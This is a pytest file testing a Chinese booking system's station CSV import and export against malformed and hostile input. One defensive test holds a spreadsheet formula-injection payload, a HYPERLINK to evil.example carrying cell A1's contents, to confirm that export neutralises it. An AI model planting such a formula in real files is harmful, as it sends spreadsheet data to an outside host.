"""Station CSV files against hostile and careless input (issue 16 item 6-7, issue 14 item 7):
short rows, values longer than their columns, too many rows, control characters and
formulas. Each is refused with its line, column and the value, and nothing is written;
runs on SQLite and PostgreSQL alike (PostgreSQL is the one that used to raise on length).
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from core import csvio
from core.booking import station_admin, station_csv
from core.booking.models import Station
from core.csvio import CsvImportError
from tests.booking.conftest import NOW

HEADER = ",".join(station_csv.COLUMNS) + "\n"
GOOD = "S-1,华亭镇服务站,华亭镇,,,,,1,3 7,30,1,14,120,2,1-5 09:00-11:30,0,\n"


def count(session) -> int:
    return session.scalar(select(func.count()).select_from(Station)) or 0


def refused(session, text: str, limits: csvio.Limits = station_csv.LIMITS) -> list[str]:
    """Import through the service the console and CLI call; nothing may be written."""
    with pytest.raises(CsvImportError) as caught:
        station_admin.import_stations(session, text, NOW, limits)
    session.rollback()
    assert count(session) == 0
    return caught.value.problems


def test_a_short_row_is_named_instead_of_crashing(db_session):
    # Before: AttributeError ('NoneType' has no 'strip'), a 500 and a CLI traceback.
    assert refused(db_session, HEADER + GOOD + "S-2,外冈镇服务站,外冈镇\n") == [
        "第 3 行：有 3 列，第一行的列名有 17 列；请检查是否少了或多了逗号，或引号没有成对。"
    ]


@pytest.mark.parametrize(
    ("column", "limit"), [("code", 32), ("name", 100), ("address", 200), ("phone", 40)]
)
def test_a_value_longer_than_its_column_is_refused_with_the_value(db_session, column, limit):
    # Before: PostgreSQL's "value too long for type character varying", a 500.
    value = "长" * (limit + 1)
    row = dict(zip(station_csv.COLUMNS, next(csv.reader([GOOD.strip()])), strict=True))
    row[column] = value
    label = station_csv.LABELS[column]
    [problem] = refused(db_session, HEADER + ",".join(row.values()) + "\n")
    assert problem == (
        f"第 2 行 {column} 列（{label}）的“{'长' * 30}…（共 {limit + 1} 个字符）”："
        f"不超过 {limit} 个字符（现有 {limit + 1} 个）"
    )


def test_a_value_exactly_as_long_as_its_column_is_stored(db_session):
    code, name = "C" * 32, "名" * 100
    text = HEADER + GOOD.replace("S-1", code).replace("华亭镇服务站", name)
    assert station_admin.import_stations(db_session, text, NOW).added == 1
    db_session.commit()
    assert db_session.scalar(select(Station.name).where(Station.code == code)) == name


def test_a_nul_byte_is_refused_before_the_database_sees_it(db_session):
    problems = refused(db_session, HEADER + GOOD.replace("华亭镇服务站", "华亭\x00服务站"))
    assert problems == ["第 2 行 name 列（名称）的“华亭\ufffd服务站”：含有不可见的控制字符"]


def test_more_rows_than_the_cap_are_refused_early_with_the_cap_named(db_session):
    limits = csvio.Limits(max_bytes=1024 * 1024, max_rows=50)
    rows = "".join(GOOD.replace("S-1", f"S-{n}") for n in range(50))
    assert station_admin.import_stations(db_session, HEADER + rows, NOW, limits).added == 50
    db_session.rollback()
    # One more row: refused as a whole, and before any row is checked (row 52 is short).
    assert refused(db_session, HEADER + rows + "X\n", limits) == [
        "文件超过 50 行数据，请分批导入（每次最多 50 行）。"
    ]


def test_the_default_cap_is_documented_in_config():
    assert station_csv.LIMITS.max_rows == 500
    assert station_csv.LIMITS.max_bytes == 1024 * 1024


def test_every_bad_value_of_a_row_is_listed_with_what_was_written(db_session):
    bad = "S-2,坏站,浦东新区,,abc,121.2,,也许,3 99,5,八,14,120,2,1-5 9点,是,\n"
    assert refused(db_session, HEADER + GOOD + bad) == [
        "第 3 行 town 列（街镇）的“浦东新区”：不是嘉定区的街镇（"
        + "、".join(station_csv.TOWNS)
        + "）",
        "第 3 行 latitude 列（纬度）的“abc”：不是数字",
        "第 3 行 has_veterans_window 列（退役军人服务窗口）的“也许”：请填写 1（是）或 0（否）",
        "第 3 行 services 列（服务事项）的“3 99”：应为服务清单的编号（1-24），以空格分隔",
        "第 3 行 slot_minutes 列（每个时段分钟数）的“5”：应为 10 到 240 之间的整数",
        "第 3 行 desks 列（窗口数）的“八”：应为 1 到 50 之间的整数",
        "第 3 行 hours 列（每周开放时间）的“1-5 9点”：时段“9点”格式不对，应如 09:00-11:30",
    ]


def test_digits_other_than_ascii_are_refused_not_crashed_on(db_session):
    # "²".isdigit() is true and int("²") raises: that used to surface as English.
    problems = refused(db_session, HEADER + GOOD.replace(",1,14,", ",²,14,"))
    assert problems == ["第 2 行 desks 列（窗口数）的“²”：应为 1 到 50 之间的整数"]


def test_a_code_twice_names_both_lines(db_session):
    assert refused(db_session, HEADER + GOOD + GOOD) == [
        "第 3 行 code 列（编号）的“S-1”：编号在文件中重复（第 2 行已有）"
    ]


def test_an_export_neutralises_formulas_and_imports_back_unchanged(db_session, factories):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    factories.station(code="F-1", name=attack, address="@SUM(1+1)", phone="+86 21 5999", note="-1")
    db_session.commit()
    exported = station_csv.export_csv(db_session)
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["name"] == "'" + attack
    assert row["address"] == "'@SUM(1+1)"
    assert row["phone"] == "'+86 21 5999"
    assert row["note"] == "'-1"
    result = station_admin.import_stations(db_session, exported, NOW)
    assert (result.added, result.updated) == (0, 1)
    db_session.commit()
    station = db_session.scalar(select(Station))
    assert (station.name, station.address, station.phone) == (attack, "@SUM(1+1)", "+86 21 5999")
    assert station_csv.export_csv(db_session) == exported


def test_the_sample_file_still_loads_unchanged(db_session):
    assert station_csv.load_sample_if_empty(db_session) == 24
    exported = station_csv.export_csv(db_session)
    assert station_csv.import_csv(db_session, exported) == (0, 24)
    assert station_csv.export_csv(db_session) == exported
